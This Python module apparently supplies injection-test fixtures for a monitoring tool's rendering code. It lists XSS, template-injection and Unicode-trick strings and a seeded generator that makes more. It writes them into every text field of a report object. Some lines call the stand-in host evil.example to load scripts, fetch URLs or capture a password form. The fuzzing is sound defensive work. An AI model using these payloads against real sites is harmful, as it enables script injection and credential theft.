"""Hostile strings, and a way to put them into every text field of a material."""

from __future__ import annotations

from collections.abc import Iterator, Sequence
from dataclasses import replace
from html import escape
from itertools import cycle
from random import Random
from urllib.parse import quote

from monitor.model import Assessed, CaseFile, Coaching, CoachingPoint, Material, Praise, Reason, StoryFile

STRINGS = (
    # Elements and handlers
    "<script>alert(1)</script>",
    "</script><script>alert(2)</script>",
    '"><script>alert(3)</script>',
    "'><script>alert(4)</script>",
    "<ScRiPt>alert(5)</sCrIpT>",
    "<script\x0c>alert(6)</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(7)>",
    "<img src=1 href=1 onerror='javascript:alert(8)'>",
    '"><img src=x onerror=alert(9)>',
    "<svg onload=alert(10)>",
    "<svg><script>alert(11)</script></svg>",
    "</svg><svg/onload=alert(12)>",
    "</text></svg><script>alert(13)</script>",
    "<svg><animate onbegin=alert(14) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(15)>",
    "<body onload=alert(16)>",
    "<iframe src=javascript:alert(17)></iframe>",
    "<iframe srcdoc='<script>alert(18)</script>'></iframe>",
    "<object data=javascript:alert(19)></object>",
    "<embed src=//evil.example/x.swf>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=password autofocus onfocus=alert(20)></form>",
    "<video><source onerror=alert(21)></video>",
    "<audio src=x onerror=alert(22)>",
    "<details open ontoggle=alert(23)>",
    "<marquee onstart=alert(24)>",
    "<a href='javascript:alert(25)'>x</a>",
    '" onmouseover="alert(26)" x="',
    "' onfocus='alert(27)' autofocus='",
    "x onmouseover=alert(28)",
    "`onmouseover=alert(29)",
    '" style="background:url(//evil.example/x)',
    "</style><script>alert(30)</script>",
    "</style><style>*{display:none}</style>",
    "*/body{display:none}/*",
    "</title><script>alert(31)</script>",
    "</textarea><script>alert(32)</script>",
    "<!-- <script>alert(33)</script> -->",
    "--><script>alert(34)</script><!--",
    "<![CDATA[<script>alert(35)</script>]]>",
    "<?xml version='1.0'?><script>alert(36)</script>",
    "<template><script>alert(37)</script></template>",
    "<noscript><p title='</noscript><script>alert(38)</script>'>",
    "</blockquote></article></main><h1>Hacked</h1>",
    "</details></blockquote><button onclick=alert(39)>x</button>",
    # Entities and encodings
    "&lt;script&gt;alert(40)&lt;/script&gt;",
    "&#60;script&#62;alert(41)&#60;/script&#62;",
    "&amp;lt;b&amp;gt;",
    "%3Cscript%3Ealert(42)%3C/script%3E",
    "\\u003cscript\\u003ealert(43)\\u003c/script\\u003e",
    "+ADw-script+AD4-alert(44)+ADw-/script+AD4-",
    "\ufeff<script>alert(45)</script>",
    "＜script＞alert(46)＜/script＞",
    # Templates and formats
    "{{ 7*7 }}",
    "{{ ''.__class__.__mro__ }}",
    "{% for x in range(9) %}x{% endfor %}",
    "{# gone #}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "{0.__class__} %s %n %(name)s",
    # Addresses
    "javascript:alert(47)",
    "JaVaScRiPt:alert(48)",
    "java\tscript:alert(49)",
    "data:text/html,<script>alert(50)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCg1MSk8L3NjcmlwdD4=",
    "vbscript:msgbox(1)",
    "//evil.example/x",
    "https://good.example@evil.example/",
    "file:///etc/passwd",
    # Signs that hide, reorder, stack or break
    "\u202egnihtemos\u202c \u2066x\u2069 \u200f",
    "\u202e\u202e\u202e</b>never closed",
    "a\x00b\x01c\x1b[31mred\x7f\x85",
    "line\r\nbreak\rreturn\nnew\u2028sep\u2029para\tTab",
    "\ud800 lone \udfff",
    "Z\u0351\u036b\u0343\u036a\u0302a\u0322\u034b\u0320l\u0335\u030d\u031dg\u0358\u031do\u0300" * 20,
    "مرحبا بالعالم 123 (test) العربية",
    "👩‍👩‍👧‍👦👏🏽🇬🇧" * 30,
    "ﷺ" * 200,
    "W" * 500,
    " ".join(["word"] * 700),
    "\n" * 300 + "deep",
    "\u200b\u200b\u200b",
    "   leading and trailing   ",
    "",
)


BREAKS = (
    "",
    '"',
    "'",
    "`",
    '">',
    "'>",
    "-->",
    "*/",
    "]]>",
    "</a>",
    "</style>",
    "</title>",
    "</script>",
    "</svg>",
    "\n",
    "\x00",
)
"""How a string tries to leave the place where it is written."""
ELEMENTS = (
    "script", "img", "svg", "iframe", "object", "embed", "video", "audio", "details", "input", "body", "math", "form", "a", "b",
    "marquee", "style", "link", "meta", "base", "template", "noscript", "x-foreign",
)  # fmt: skip
HANDLERS = (
    "onload", "onerror", "onclick", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "onbegin", "onpointerdown",
)  # fmt: skip
GAPS = (" ", "/", "\t", "\n", "\x0c", " \u00a0", "//")
SAYS = (
    "alert({})",
    "alert`{}`",
    "top.alert({})",
    "fetch('//evil.example/{}')",
    "location='//evil.example/{}'",
    "document.write({})",
)
ENDS = ("", ">", "/>", ' x="', " x='", "<!--", "//", "</script>", "{{{{7*7}}}}")
DISGUISES = (
    str, str.upper, str.swapcase, escape, quote, lambda text: text.replace("<", "\\u003c"),
    lambda text: text.replace("<", "\uff1c"), lambda text: "\u202e" + text, lambda text: "".join(f"&#{ord(sign)};" for sign in text),
)  # fmt: skip


def generated(count: int, seed: int) -> tuple[str, ...]:
    """Put together so many hostile strings, no two the same, from the ways in which such strings are made."""
    chance = Random(seed)  # noqa: S311 - the same strings in every run
    found: dict[str, None] = {}
    while len(found) < count:
        element, says = chance.choice(ELEMENTS), chance.choice(SAYS).format(len(found))
        gap = chance.choice(GAPS)
        core = chance.choice((
            f"<{element}{gap}{chance.choice(HANDLERS)}={says}",
            f"<{element}{gap}src=x{gap}{chance.choice(HANDLERS)}='{says}'",
            f"<{element}>{says}</{element}>",
            f"<{element}{gap}href=javascript:{says}",
            f"<{element}{gap}style=background:url(//evil.example/{len(found)})",
            f"{gap}{chance.choice(HANDLERS)}={says}{gap}autofocus",
        ))  # fmt: skip
        disguise = chance.choice(DISGUISES)
        found[disguise(chance.choice(BREAKS) + core + chance.choice(ENDS))] = None
    return tuple(found)


def poisoned(material: Material, offset: int = 0, strings: Sequence[str] = STRINGS) -> Material:
    """Put hostile strings into every text field that could come from outside, or through the configuration."""
    words = cycle([*strings[offset:], *strings[:offset]])
    return replace(
        material,
        title=next(words),
        brands=(next(words), next(words)),
        run=next(words),
        waiting=_files(material.waiting, words),
        next_later=_files(material.next_later, words),
        held=_files(material.held, words),
        stories=tuple(_story(file, words) for file in material.stories),
        changes=tuple(replace(change, tag=next(words), text=next(words)) for change in material.changes),
        quiet=_files(material.quiet, words),
        praise=tuple(_praise(one, words) for one in material.praise),
        outcomes=_files(material.outcomes, words),
        hearing=tuple(
            replace(
                source,
                title=next(words),
                platform=next(words),
                last_error=next(words),
                gaps=tuple(replace(gap, detail=next(words)) for gap in source.gaps),
            )
            for source in material.hearing
        ),
        unread_languages={next(words): 3, next(words): 2},
        measured_error=(next(words), next(words)),
        mailbox=next(words),
        owners={next(words): next(words)},
    )


def _files(files: tuple[CaseFile, ...], words: Iterator[str]) -> tuple[CaseFile, ...]:
    return tuple(_file(file, words) for file in files)


def _file(file: CaseFile, words: Iterator[str]) -> CaseFile:
    mentions = tuple(_assessed(one, words) for one in file.mentions)
    lead = mentions[0].mention
    reasons = (
        Reason(text=next(words), mention_id=lead.id, start=0, end=max(1, len(lead.text) // 2)),
        Reason(text=next(words), mention_id=lead.id, start=min(3, len(lead.text)), end=len(lead.text)),
        Reason(text=next(words), mention_id=next(words)),
    )
    priority = replace(
        file.case.priority, reasons=reasons, lead_mention_id=lead.id, owner=next(words), recipient=next(words)
    )
    return replace(
        file,
        case=replace(file.case, author=next(words), owner=next(words), platform=next(words), priority=priority),
        mentions=mentions,
        replies=tuple(_assessed(one, words) for one in file.replies),
        story=replace(file.story, name=next(words), brand=next(words)) if file.story else None,
        spread=replace(file.spread, platforms=(next(words), next(words))) if file.spread else None,
        coaching=Coaching(
            acknowledge=(CoachingPoint(text=next(words), quote=next(words)),),
            avoid=(CoachingPoint(text=next(words), quote=next(words)),),
        ),
    )


def _assessed(one: Assessed, words: Iterator[str]) -> Assessed:
    mention = replace(
        one.mention,
        text=next(words),
        author=next(words),
        author_name=next(words),
        url=next(words),
        place=next(words),
        platform=next(words),
        source=next(words),
    )
    assessment = replace(one.assessment, mention_id=mention.id, gist=next(words), brand=next(words), signals=())
    return Assessed(mention=mention, assessment=assessment)


def _praise(praise: Praise, words: Iterator[str]) -> Praise:
    passings = tuple(replace(each, actor=next(words), recipient=next(words)) for each in praise.passings)
    return replace(praise, said=_assessed(praise.said, words), owner=next(words), passings=passings)


def _story(file: StoryFile, words: Iterator[str]) -> StoryFile:
    mentions = tuple(_assessed(one, words) for one in file.mentions)
    return replace(
        file,
        story=replace(file.story, id=mentions[0].mention.id, name=next(words), brand=next(words)),
        spread=replace(file.spread, platforms=(next(words), next(words))),
        mentions=mentions,
        because={one.mention.id: next(words) for one in mentions},
    )
